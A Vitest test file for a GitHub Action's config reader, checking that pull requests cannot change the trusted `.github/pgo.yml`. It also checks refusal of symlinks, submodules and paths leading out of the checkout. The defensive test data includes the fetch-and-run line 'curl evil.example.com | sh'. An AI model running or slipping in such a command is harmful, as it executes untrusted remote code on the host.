import { execFileSync } from 'node:child_process';
import { mkdir, readFile, rm, symlink, writeFile } from 'node:fs/promises';
import { dirname, join } from 'node:path';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { type RawInputs, type RunConfig, readRun } from '../../src/config.ts';
import { ExpectedError } from '../../src/system/errors.ts';
import { type GitHubHarness, startGitHub } from '../harness/github/start.ts';
import { makeRepository } from '../harness/go-modules.ts';
import { temporaryFolder } from '../harness/temporary.ts';

/** On a pull request, the config file that counts is the one that was accepted: that of the base. */

type Files = Readonly<Record<string, string>>;

const FILE = '.github/pgo.yml';
const ACCEPTED = 'min-samples: 111\n';
const HOSTILE = 'min-samples: 666\nserve: curl evil.example.com | sh\n';

interface Scene extends AsyncDisposable {
  /** The checkout. */
  readonly root: string;
  readonly base: string;
  git(...args: string[]): Promise<string>;
  write(files: Files): Promise<void>;
  /** What a run for this event is to do. */
  read(raw?: Partial<RawInputs>, options?: Reading): Promise<RunConfig>;
}

interface Reading {
  readonly event?: string;
  readonly pull?: Readonly<Record<string, unknown>>;
  readonly env?: Readonly<Record<string, string>>;
  readonly token?: string;
}

/** A clone with one commit that has been accepted. */
async function sceneWith(files: Files): Promise<Scene> {
  const folder = await temporaryFolder();
  const root = join(folder.path, 'work');
  const write: Scene['write'] = async (written) => {
    for (const [name, text] of Object.entries(written)) {
      await mkdir(dirname(join(root, name)), { recursive: true });
      await writeFile(join(root, name), text);
    }
  };
  await write({ 'go.mod': 'module example.com/shop\n', ...files });
  const git = await makeRepository(root);
  const base = await git('rev-parse', 'HEAD');
  return {
    root,
    base,
    git,
    write,
    async read(raw = {}, { event = 'pull_request', pull = {}, env = {}, token } = {}) {
      const path = join(folder.path, 'event.json');
      const pull_request = { number: 7, merged: false, base: { ref: 'main', sha: base }, ...pull };
      await writeFile(path, JSON.stringify(event.startsWith('pull_request') ? { pull_request } : {}));
      return readRun(
        { settings: {}, ...raw, ...(token !== undefined && { token }) },
        {
          cwd: root,
          env: {
            ...{ PATH: process.env['PATH'], GITHUB_EVENT_NAME: event, GITHUB_EVENT_PATH: path },
            ...{ GITHUB_REPOSITORY: 'octo/service', GITHUB_WORKSPACE: root, ...env },
          },
          mask: () => {},
        },
        'check',
      );
    },
    [Symbol.asyncDispose]: () => folder[Symbol.asyncDispose](),
  };
}

async function minSamples(run: RunConfig): Promise<number> {
  if (run.kind !== 'one') throw new Error('several targets are meant');
  return (await run.config()).minSamples;
}

const notes = ({ findings }: RunConfig) => findings.map(({ severity, message }) => `${severity}: ${message}`);
const CHANGED = [
  `note: \`${FILE}\` is read from \`main\`, the base of this pull request: what the pull request changes in it counts once it is merged.`,
];
const ADDED = [
  `note: \`${FILE}\` is not on \`main\` yet: what this pull request says in it counts once it is merged.`,
];

async function refusal(reading: Promise<unknown>): Promise<{ text: string; exitCode: number }> {
  try {
    await reading;
  } catch (error) {
    if (!(error instanceof ExpectedError)) throw error;
    return { text: `${error.message} ${error.fix}`, exitCode: error.exitCode };
  }
  throw new Error('it was accepted');
}

describe('with the base in the clone', () => {
  test.each(['pull_request', 'pull_request_target', 'pull_request_review', 'pull_request_review_comment'])(
    'a changed file has no say on %s',
    async (event) => {
      await using scene = await sceneWith({ [FILE]: ACCEPTED });
      await scene.write({ [FILE]: HOSTILE });
      await scene.git('commit', '--quiet', '--all', '--message=Change');
      const run = await scene.read({}, { event });
      expect(run).toMatchObject({ kind: 'one' });
      expect(await minSamples(run)).toBe(111);
      expect(notes(run)).toEqual(CHANGED);
    },
  );

  test.each(['push', 'schedule', 'merge_group', 'workflow_run', 'workflow_dispatch', ''])(
    'it is what is checked out on %s',
    async (event) => {
      await using scene = await sceneWith({ [FILE]: ACCEPTED });
      await scene.write({ [FILE]: 'min-samples: 222' });
      const run = await scene.read({}, { event });
      expect(await minSamples(run)).toBe(222);
      expect(notes(run)).toEqual([]);
    },
  );

  test.each([
    { merged: true },
    { merged: true, merged_at: '2026-11-20T06:00:00Z' },
    { merged_at: '2026-11-20T06:00:00Z' },
  ])('what was merged is accepted: %j', async (pull) => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED });
    await scene.write({ [FILE]: 'min-samples: 222' });
    const run = await scene.read({}, { pull: { merged: undefined, ...pull } });
    expect(await minSamples(run)).toBe(222);
  });

  test.each([{ merged: null, merged_at: null }, { merged: 'true' }, { merged: 1 }])(
    'what is not merged is not: %j',
    async (pull) => {
      await using scene = await sceneWith({ [FILE]: ACCEPTED });
      await scene.write({ [FILE]: HOSTILE });
      expect(await refusalOrSamples(scene, pull)).toBe(111);
    },
  );

  async function refusalOrSamples(scene: Scene, pull: Reading['pull']): Promise<unknown> {
    try {
      return await minSamples(await scene.read({}, { pull: { ...pull } }));
    } catch (error) {
      // An event as GitHub never writes it: the checkout's file is not read then either.
      expect(String(error)).toContain('which is not known');
      return 111;
    }
  }

  test('the same file, with other line ends, is nothing to speak of', async () => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED });
    await scene.write({ [FILE]: ACCEPTED.replaceAll('\n', '\r\n'), 'main.go': 'package main' });
    const run = await scene.read();
    expect(await minSamples(run)).toBe(111);
    expect(notes(run)).toEqual([]);
  });

  test('one that is new counts once it is merged', async () => {
    await using scene = await sceneWith({});
    await scene.write({ [FILE]: HOSTILE });
    const run = await scene.read();
    expect(await minSamples(run)).toBe(100);
    expect(notes(run)).toEqual(ADDED);
  });

  test('one that is taken away still counts', async () => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED });
    await rm(join(scene.root, '.github'), { recursive: true });
    const run = await scene.read();
    expect(await minSamples(run)).toBe(111);
    expect(notes(run)).toEqual(CHANGED);
  });

  test('a file in the working directory does not hide that of the root, unless it was accepted', async () => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED, 'svc/go.mod': 'module m\n' });
    await scene.write({ [`svc/${FILE}`]: HOSTILE });
    const run = await scene.read({ workingDirectory: 'svc' });
    expect(await minSamples(run)).toBe(111);
    expect(notes(run)).toEqual(CHANGED);

    await scene.git('add', '--all');
    await scene.git('commit', '--quiet', '--message=Accepted');
    const sha = await scene.git('rev-parse', 'HEAD');
    const later = await scene.read({ workingDirectory: 'svc' }, { pull: { base: { ref: 'main', sha } } });
    expect(await minSamples(later)).toBe(666);
    expect(notes(later)).toEqual([]);
  });

  test('a named one is that of the base, too', async () => {
    await using scene = await sceneWith({ 'ci/pgo.yaml': ACCEPTED });
    await scene.write({ 'ci/pgo.yaml': HOSTILE, 'ci/new.yaml': HOSTILE });
    expect(await minSamples(await scene.read({ config: 'ci/pgo.yaml' }))).toBe(111);
    expect(await minSamples(await scene.read({ config: join(scene.root, 'ci/pgo.yaml') }))).toBe(111);
    expect(await refusal(scene.read({ config: 'ci/new.yaml' }))).toEqual({
      text: 'config: there is no file `ci/new.yaml` on `main`, the base of this pull request. Name a file that is on `main`: what a pull request adds counts once it is merged. Or leave `config` out.',
      exitCode: 2,
    });
  });

  test('what an earlier step has written beside the checkout is as it is', async () => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED });
    const beside = join(scene.root, '..', 'made.yml');
    await writeFile(beside, 'min-samples: 333');
    expect(await minSamples(await scene.read({ config: beside }))).toBe(333);
  });

  test('targets are those of the base, with their folders in the checkout', async () => {
    const targets =
      'targets:\n  - { name: api, working-directory: api, min-samples: 11 }\n  - { name: mail, working-directory: mail }\n';
    await using scene = await sceneWith({
      [FILE]: targets,
      'api/go.mod': 'module a\n',
      'mail/go.mod': 'module m\n',
    });
    await scene.write({ [FILE]: targets.replace('11', '99').replace('mail }', 'mail, serve: ./evil }') });
    const run = await scene.read();
    if (run.kind !== 'several') throw new Error('one program is meant');
    const [api, mail] = await Promise.all(run.targets.map((target) => target.config()));
    expect(api).toMatchObject({ target: 'api', minSamples: 11, workingDirectory: join(scene.root, 'api') });
    expect(mail?.underLoad).toBeUndefined();
    expect(notes(run)).toEqual(CHANGED);
  });

  test('errors name the branch whose file it is', async () => {
    await using scene = await sceneWith({ [FILE]: 'min-sampels: 5\n' });
    await scene.write({ [FILE]: 'min-samples: 5\n' });
    expect((await refusal(scene.read())).text).toContain(`${FILE} on main: `);
  });

  test('another commit that is told to stand for the base does not', async () => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED });
    await scene.write({ [FILE]: HOSTILE });
    await scene.git('commit', '--quiet', '--all', '--message=Change');
    await scene.git('replace', scene.base, 'HEAD');
    expect(await scene.git('show', `${scene.base}:${FILE}`)).toContain('666');
    expect(await minSamples(await scene.read())).toBe(111);
  });

  test('a branch of the name of the base does not either', async () => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED });
    await scene.write({ [FILE]: HOSTILE });
    await scene.git('commit', '--quiet', '--all', '--message=Change');
    await scene.git('tag', scene.base, 'HEAD');
    expect(await minSamples(await scene.read())).toBe(111);
  });
});

describe('what is no plain file on the base', () => {
  test.each([
    ['the file', FILE],
    ['its folder', '.github'],
  ])('%s is a symbolic link', async (_what, path) => {
    await using scene = await sceneWith({ 'evil/pgo.yml': HOSTILE });
    await mkdir(dirname(join(scene.root, path)), { recursive: true });
    await symlink(path === FILE ? '../evil/pgo.yml' : 'evil', join(scene.root, path));
    await scene.git('add', '--all');
    await scene.git('commit', '--quiet', '--message=Link');
    const sha = await scene.git('rev-parse', 'HEAD');
    expect(await refusal(scene.read({}, { pull: { base: { ref: 'main', sha } } }))).toEqual({
      text: expect.stringMatching(
        /^config: `\.github(\/pgo\.yml)?` is a symbolic link on `main`, so that .+ Let the config file be a plain file/,
      ),
      exitCode: 2,
    });
  });

  test.each([FILE, '.github'])('%s is a submodule', async (path) => {
    await using scene = await sceneWith({});
    await scene.git('update-index', '--add', '--cacheinfo', `160000,${scene.base},${path}`);
    await scene.git('commit', '--quiet', '--message=Submodule');
    const sha = await scene.git('rev-parse', 'HEAD');
    const { text } = await refusal(scene.read({}, { pull: { base: { ref: 'main', sha } } }));
    expect(text).toContain(`\`${path}\` is a submodule on \`main\``);
  });

  test('a link that the pull request makes of it is not followed', async () => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED });
    await rm(join(scene.root, FILE));
    // Whoever read it would never end.
    await symlink('/dev/zero', join(scene.root, FILE));
    const run = await scene.read();
    expect(await minSamples(run)).toBe(111);
    expect(notes(run)).toEqual(CHANGED);
  });
});

describe('folders that a pull request makes something else of', () => {
  test('a submodule with a config file of its own', async () => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED, 'svc/go.mod': 'module m\n' });
    await using other = await sceneWith({ [FILE]: HOSTILE, 'go.mod': 'module m\n' });
    await scene.git('rm', '-r', '--quiet', 'svc');
    execFileSync(
      'git',
      ['-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', other.root, 'svc'],
      { cwd: scene.root },
    );
    expect(await readFile(join(scene.root, 'svc', FILE), 'utf8')).toBe(HOSTILE);
    expect(await minSamples(await scene.read({ workingDirectory: 'svc' }))).toBe(111);
  });

  test('a submodule that was one before: its own file cannot be accepted here', async () => {
    await using scene = await sceneWith({ [FILE]: ACCEPTED });
    await using other = await sceneWith({ 'go.mod': 'module m\n' });
    execFileSync(
      'git',
      ['-c', 'protocol.file.allow=always', 'submodule', '--quiet', 'add', other.root, 'svc'],
      { cwd: scene.root },
    );
    await scene.git('commit', '--quiet', '--all', '--message=Submodule');
    const pull = { base: { ref: 'main', sha: await scene.git('rev-parse', 'HEAD') } };
    expect(await minSamples(await scene.read({ workingDirectory: 'svc' }, { pull }))).toBe(111);
    await scene.write({ [`svc/${FILE}`]: HOSTILE });
    const { text } = await refusal(scene.read({ workingDirectory: 'svc' }, { pull }));
    expect(text).toContain('config: `svc` is a submodule on `main`');
  });

  test('a link to the root: the file is still that of the folder', async () => {
    await using scene = await sceneWith({ [FILE]: 'min-samples: 444', [`svc/${FILE}`]: ACCEPTED });
    await rm(join(scene.root, 'svc'), { recursive: true });
    await symlink('.', join(scene.root, 'svc'));
    expect(await minSamples(await scene.read({ workingDirectory: 'svc' }))).toBe(111);
  });

  const outside = async (
    setup: (scene: Scene) => Promise<void>,
    reading: (scene: Scene) => Promise<unknown>,
  ) => {
    await using scene = await sceneWith({
      [FILE]: 'targets: [{ name: api, working-directory: svc }]',
      'svc/go.mod': 'module m\n',
    });
    await setup(scene);
    return await refusal(reading(scene));
  };
  const link = async ({ root }: Scene) => {
    await mkdir(join(root, '..', 'outside', 'deep'), { recursive: true });
    await writeFile(join(root, '..', 'outside', 'secret.txt'), 'a secret');
    await rm(join(root, 'svc'), { recursive: true });
    await symlink('../outside', join(root, 'svc'));
  };
  const config = async (run: RunConfig) => (run.kind === 'one' ? run.config() : undefined);

  test.each([
    ['working-directory', { workingDirectory: 'svc/deep' }, 'working-directory: svc/deep leads out'],
    ['working-directory', { workingDirectory: 'svc' }, 'working-directory: svc leads out'],
    ['a target’s', {}, 'targets[0] (api): working-directory: svc leads out'],
  ])('a link out of the checkout is refused as %s', async (_what, raw, said) => {
    const { text, exitCode } = await outside(link, async (scene) => config(await scene.read(raw)));
    expect(text).toContain(said);
    expect(text).toContain('by a symbolic link, which is not followed for a pull request.');
    expect(exitCode).toBe(2);
  });

  test.each([
    ['output-directory', 'svc/new/folder'],
    ['body-path', 'svc/secret.txt'],
    ['profile', 'svc/default.pgo'],
  ])('and as %s', async (setting, path) => {
    await using scene = await sceneWith({ 'svc/go.mod': 'module m\n' });
    await link(scene);
    const { text } = await refusal(scene.read({ settings: { [setting]: path } }).then(config));
    expect(text).toContain(`${setting}: ${path} leads out of the checkout`);
    // The owner's own links are the owner's.
    await config(await scene.read({ settings: { [setting]: path } }, { event: 'push' }));
  });
});

describe('without the base in the clone', () => {
  let github: GitHubHarness;
  beforeAll(async () => {
    github = await startGitHub({ files: { [FILE]: ACCEPTED, 'svc/go.mod': 'module m' } });
  });
  afterAll(async () => {
    await github[Symbol.asyncDispose]();
    github.expectNoViolations();
  });
  /** The checkout is a shallow one of the merge commit, and holds what the pull request wants. */
  async function asked(
    how: {
      sha?: string;
      token?: string;
      raw?: Partial<RawInputs>;
      setup?: (scene: Scene) => Promise<unknown>;
    } = {},
  ) {
    await using scene = await sceneWith({ [FILE]: HOSTILE, 'svc/go.mod': 'module m\n' });
    await how.setup?.(scene);
    const sha = how.sha ?? ((await github.emulator.head(github.repository, 'main')) as string);
    const run = await scene.read(how.raw ?? {}, {
      pull: { base: { ref: 'main', sha } },
      env: { GITHUB_API_URL: github.url },
      ...('token' in how ? how.token !== undefined && { token: how.token } : { token: github.token }),
    });
    return { samples: await minSamples(run), notes: notes(run) };
  }

  test('GitHub is asked', async () => {
    expect(await asked()).toEqual({ samples: 111, notes: CHANGED });
    expect(await asked({ raw: { workingDirectory: 'svc' } })).toEqual({ samples: 111, notes: CHANGED });
  });

  test('also where there is no clone at all, as after a download of the files', async () => {
    const setup = ({ root }: Scene) => rm(join(root, '.git'), { recursive: true });
    expect(await asked({ setup })).toEqual({ samples: 111, notes: CHANGED });
  });

  test('a file that GitHub has not is not taken from the checkout', async () => {
    const { emulator, repository } = github;
    const sha = await emulator.commit(repository, 'empty', { 'README.md': '' });
    expect(await asked({ sha })).toEqual({ samples: 100, notes: ADDED });
  });

  test('a symbolic link is told from what it leads to', async () => {
    const { emulator, repository } = github;
    const git = `/repos/${repository}/git`;
    const { sha: blob } = await emulator.must('POST', `${git}/blobs`, {
      content: 'evil.yml',
      encoding: 'utf-8',
    });
    const entry = { path: FILE, mode: '120000', type: 'blob', sha: blob };
    const { sha: tree } = await emulator.must('POST', `${git}/trees`, { tree: [entry] });
    const { sha } = await emulator.must('POST', `${git}/commits`, { message: 'Link', tree, parents: [] });
    expect((await refusal(asked({ sha }))).text).toContain(`\`${FILE}\` is a symbolic link on \`main\``);
  });

  test('without anybody who knows it, the run ends', async () => {
    const { text, exitCode } = await refusal(asked({ token: undefined as never }));
    expect(text).toMatch(
      /^On a pull request the config file is read from its base, and the commit [0-9a-f]{10} of `main` cannot be had: this clone does not hold it, and there is no token for GitHub's API\. Fetch it before: `fetch-depth: 0` on the step with `actions\/checkout`\./,
    );
    expect(exitCode).toBe(1);
  });

  test.each([
    ['a commit that is not there', { sha: '1'.repeat(40) }, "GitHub's API answered 404"],
    ['a token that is not valid', { token: 'ghs_wrong' }, "GitHub's API answered 401"],
  ])('%s ends it, too', async (_what, how, said) => {
    const { text } = await refusal(asked(how));
    expect(text).toContain(said);
    expect(text).toContain('permissions: { contents: read }');
  });

  test.each([
    ['names no base', { base: undefined }],
    ['names another thing', { base: { ref: 'main', sha: 'main' } }],
    ['names an option', { base: { ref: 'main', sha: '--help' } }],
  ])('an event that %s ends it where the checkout has a config file', async (_what, pull) => {
    await using scene = await sceneWith({ [FILE]: HOSTILE });
    const { text } = await refusal(scene.read({}, { pull }));
    expect(text).toMatch(/^On a pull request \.github\/pgo\.yml is read from its base, which is not known: /);
    await using without = await sceneWith({});
    expect(await minSamples(await without.read({}, { pull }))).toBe(100);
  });

  test('so does one that is not there', async () => {
    await using scene = await sceneWith({ [FILE]: HOSTILE });
    for (const GITHUB_EVENT_PATH of ['', join(scene.root, 'none.json'), scene.root]) {
      expect((await refusal(scene.read({}, { env: { GITHUB_EVENT_PATH } }))).text).toContain('not known');
    }
  });
});
